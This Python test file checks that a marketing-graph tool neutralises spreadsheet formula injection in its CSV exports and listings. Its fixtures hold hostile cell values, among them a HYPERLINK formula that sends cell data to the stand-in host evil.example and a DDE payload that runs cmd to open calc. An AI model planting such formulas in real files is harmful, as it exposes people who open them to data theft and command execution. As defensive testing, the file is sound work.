"""No CSV the tool writes carries a live spreadsheet formula; stored values stay as given."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow as pa
import pytest
from click.testing import CliRunner
from conftest import GraphBuilder, score

from abmgraph.cli import cli
from abmgraph.export import export_audience
from abmgraph.export.formulas import neutralise, neutralise_cell
from abmgraph.graph.store import open_store

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("-", "'-"),
        # Plainly numbers or phone numbers: data, left alone.
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1e6", "-1e6"),
        ("+44 20 7946 0958", "+44 20 7946 0958"),
        ("+1 (415) 555-0100", "+1 (415) 555-0100"),
        # Not at the start: harmless.
        ("Ann = Bob", "Ann = Bob"),
        (" =1+2", " =1+2"),
        ("", ""),
    ],
)
def test_risky_cells_are_quoted_and_numbers_are_not(value, written):
    assert neutralise_cell(value) == written
    assert neutralise(pa.array([value], pa.large_string())).to_pylist() == [written]


def test_non_text_values_pass_through():
    assert neutralise_cell(-3) == -3
    assert neutralise_cell(None) is None
    assert neutralise(pa.array([None, "=x"], pa.large_string())).to_pylist() == [None, "'=x"]


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("formulas")
    builder = GraphBuilder(root / "input")
    builder.account("A1", name=HOSTILE_NAME, domain="acme.com", country="US")
    builder.contact(
        "C1", "A1", email="ann@acme.com", first_name="=cmd|' /C calc'!A0", last_name="-Lee",
        title="@SUM(1+1)", phone="+44 20 7946 0958", consent="true", country="GB",
    )  # fmt: skip
    builder.event("C1", "demo_request", 2)
    with open_store("embedded", root / "ws") as store:
        builder.load(store)
        score(store)
    return root / "ws"


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def test_audience_files_and_csv_exports_are_disarmed(workspace, tmp_path):
    with open_store("embedded", workspace) as store:
        contacts = export_audience(store, "csv", tmp_path / "c.csv", level="contacts")
        (row,) = _rows(contacts.parts[0].path)
        assert row["first_name"] == "'=cmd|' /C calc'!A0"
        assert row["last_name"] == "'-Lee"
        assert row["title"] == "'@SUM(1+1)"
        assert row["phone"] == "+442079460958"  # stored in E.164: a phone, not a formula
        assert row["account_name"] == "'" + HOSTILE_NAME

        accounts = export_audience(store, "6sense-accounts", tmp_path / "six.csv")
        (row,) = _rows(accounts.parts[0].path)
        assert row["Account Name"] == "'" + HOSTILE_NAME

        # The store keeps the values exactly as they were given.
        stored = store.table("contacts").iloc[0]
        assert (stored["first_name"], stored["last_name"]) == ("=cmd|' /C calc'!A0", "-Lee")
        assert store.table("accounts").iloc[0]["name"] == HOSTILE_NAME


def test_csv_listings_are_disarmed(workspace):
    result = CliRunner().invoke(cli, ["--workspace", str(workspace), "accounts", "--format", "csv"])
    assert result.exit_code == 0, result.output
    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
    assert row["name"] == "'" + HOSTILE_NAME
    assert row["priority"][0].isdigit()

    result = CliRunner().invoke(
        cli, ["--workspace", str(workspace), "accounts", "--format", "json"]
    )
    assert HOSTILE_NAME.replace('"', '\\"') in result.stdout  # JSON is data, not a sheet


def test_ingest_keeps_the_whitespace_that_disarms_a_formula(tmp_path):
    path = tmp_path / "contacts.csv"
    path.write_text(
        'contact_id,first_name,last_name,title\r\nC1,"  =1+2","\t@SUM(A1) ",  Analyst  \r\n',
        encoding="utf-8",
    )
    from abmgraph.ingest.pipeline import ingest_file

    with open_store("embedded", tmp_path / "ws") as store:
        report = ingest_file(store, "contacts", path, quiet=True)
        assert report.loaded == 1
        row = store.table("contacts").iloc[0]
        assert row["first_name"] == "  =1+2"  # kept as given: harmless in a spreadsheet
        assert row["last_name"] == "\t@SUM(A1)"  # trailing space trimmed as usual
        assert row["title"] == "Analyst"
